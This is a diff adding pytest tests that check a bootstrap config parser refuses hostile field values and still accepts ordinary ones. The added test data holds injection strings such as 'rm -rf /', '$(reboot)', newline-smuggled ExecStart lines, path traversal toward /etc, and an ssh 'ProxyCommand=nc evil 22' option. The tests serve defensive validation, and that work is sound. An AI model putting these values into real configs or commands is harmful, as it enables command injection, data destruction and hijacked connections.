@@ -89,6 +89,68 @@ def test_bad_input_names_field_and_fix(data: dict, field: str, fix: str) -> None
     assert fix in message, message
 
 
+@pytest.mark.parametrize(
+    ("data", "field"),
+    [
+        ({"volume": {"owner": "ubuntu\nExecStartPre=/bin/sh"}}, "volume.owner"),
+        ({"server": {"user": "ubuntu; rm -rf /"}}, "server.user"),
+        ({"prefect": {"venv": "/mnt/pspace/$(reboot)"}}, "prefect.venv"),
+        ({"prefect": {"home": "/mnt/pspace/../../etc"}}, "prefect.home"),
+        ({"volume": {"mount_point": "/mnt/p space"}}, "volume.mount_point"),
+        ({"arc": {"mount_point": "~/../../root"}}, "arc.mount_point"),
+        ({"arc": {"key_path": "~/.ssh/key`id`"}}, "arc.key_path"),
+        ({"arc": {"options": ["reconnect", "ProxyCommand=nc evil 22"]}}, "arc.options"),
+        ({"arc": {"options": ["ServerAliveInterval=15,ProxyCommand=x"]}}, "arc.options"),
+        ({"arc": {"options": ["reconnect=yes"]}}, "arc.options"),
+        ({"arc": {"host": "host -oProxyCommand=x"}}, "arc.host"),
+        ({"arc": {"user": "-oProxyCommand=x"}}, "arc.user"),
+        ({"arc": {"remote_path": "/arc\nExecStart=/bin/sh"}}, "arc.remote_path"),
+        ({"volume": {"device_hint": "/dev/vdc; reboot"}}, "volume.device_hint"),
+        ({"prefect": {"version": "3.9.1 --index-url http://evil"}}, "prefect.version"),
+        (
+            {"prefect": {"package_index": "http://mirror/simple' ; reboot '"}},
+            "prefect.package_index",
+        ),
+        ({"prefect": {"health_cron": "* * * * *\nx"}}, "prefect.health_cron"),
+        (
+            {"ssh": {"operator_keys": ["ssh-ed25519 AAAA comment\nssh-rsa BBBB"]}},
+            "ssh.operator_keys",
+        ),
+    ],
+    ids=lambda v: v if isinstance(v, str) else None,
+)
+def test_hostile_values_are_refused_naming_the_field(data: dict, field: str) -> None:
+    """Values that would end a line, open a substitution, climb out of a directory or add an
+    ssh option in a root shell, a unit file or sshfs's command line never validate."""
+    with pytest.raises(ConfigError) as info:
+        parse_config(data, "test.yaml")
+    assert field in str(info.value), str(info.value)
+
+
+def test_ordinary_values_still_validate() -> None:
+    cfg = parse_config(
+        {
+            "volume": {"owner": "ubuntu", "mount_point": "/mnt/pspace", "device_hint": "/dev/vdc"},
+            "arc": {
+                "user": "samdf96",
+                "host": "ws-uv.canfar.net",
+                "mount_point": "~/canfar_arc",
+                "options": ["reconnect", "ServerAliveInterval=15", "idmap=user", "allow_other"],
+            },
+            "prefect": {
+                "venv": "/mnt/pspace/prefect-env",
+                "version": "3.9.1",
+                "package_index": "https://pypi.example.org/simple/",
+                "health_cron": "*/15 * * * *",
+            },
+            "ssh": {
+                "operator_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1x ops@team (laptop)"]
+            },
+        }
+    )
+    assert cfg.arc.options[-1] == "allow_other"
+
+
 def test_world_open_prefect_port_without_auth_warns() -> None:
     assert BootstrapConfig().warnings() == []
     c = parse_config({"prefect": {"api_auth": False}})
